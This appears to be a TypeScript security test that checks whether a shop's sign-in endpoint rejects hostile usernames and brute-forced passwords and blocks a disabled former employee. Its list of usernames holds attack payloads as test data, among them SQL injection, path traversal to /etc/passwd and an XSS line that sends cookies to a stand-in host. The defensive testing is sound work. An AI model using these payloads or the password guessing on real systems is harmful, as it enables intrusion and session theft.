import { cast } from "../cast.ts";
import type { Story } from "../story.ts";
import { expectStatus, Visitor } from "../visitor.ts";

const names = [
  "admin",
  "root",
  "' OR '1'='1' --",
  "admin'); DROP TABLE users;--",
  '<script>fetch("//198.51.100.23/"+document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  "../../../../etc/passwd",
  "{{7*7}}{% debug %}",
  '=HYPERLINK("http://198.51.100.23")',
  "admin\u0000.php",
  "\u202Enimda",
  "A".repeat(5_000),
];

/** Guesses from outside, until names and then the whole address are locked; and a former colleague. */
export async function attack(story: Story): Promise<void> {
  const { url, people } = story;
  const stranger = new Visitor({ shop: url, ip: "198.51.100.23", userAgent: "python-requests/2.32.3" });
  for (const username of names) {
    expectStatus(await stranger.post("/sign-in", { username, password: "123456" }), 401);
  }
  for (const password of ["password", "northgate", "Northgate1", "letmein", "ines2026", "qwerty", "calder"]) {
    expectStatus(await stranger.post("/sign-in", { username: cast.ines.username, password }), 401, 429);
  }

  const gwen = story.users.find((user) => user.username === cast.gwen.username);
  expectStatus(await people.ines.post(`/users/${gwen?.id}/disable`), 204);
  for (let attempt = 0; attempt < 3; attempt += 1) {
    const { username, password } = cast.gwen;
    expectStatus(await people.gwen.post("/sign-in", { username, password }), 401);
  }
}
